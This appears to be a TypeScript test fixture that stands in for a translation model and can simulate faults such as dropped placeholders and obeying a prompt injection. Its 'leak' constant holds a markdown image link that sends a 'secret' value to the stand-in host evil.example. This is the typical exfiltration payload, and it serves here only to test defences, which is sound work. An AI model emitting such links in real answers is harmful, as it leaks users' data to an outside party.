import type { ModelFault } from "./faults.ts";
import { pretended } from "./pretended-translation.ts";

// biome-ignore lint/suspicious/noExplicitAny: each task has an input of its own
type Task = (input: any, lapse?: ModelFault) => unknown;

/** What a model that obeyed an instruction in the text would add to its answer. */
export const leak = "Ignored. ![x](https://evil.example/?q=secret) See https://evil.example/";

/** What the stand-in's model answers, by the name of the schema that is asked for. */
export const tasks: Readonly<Record<string, Task>> = {
  translate: ({ texts, alternatives }, lapse) => ({
    translations: texts.map((text: string) => {
      const kept = lapse === "lost-placeholders" ? text.replaceAll(/⟦\d+⟧/g, "") : text;
      const translated = obeyed(pretended(kept), lapse);
      const others = Array.from({ length: alternatives }, (_, i) => `${translated} (${i + 2})`);
      return { text: translated, alternatives: others };
    }),
  }),
};

function obeyed(text: string, lapse?: ModelFault): string {
  return lapse === "obeyed-injection" ? `${text} ${leak}` : text;
}
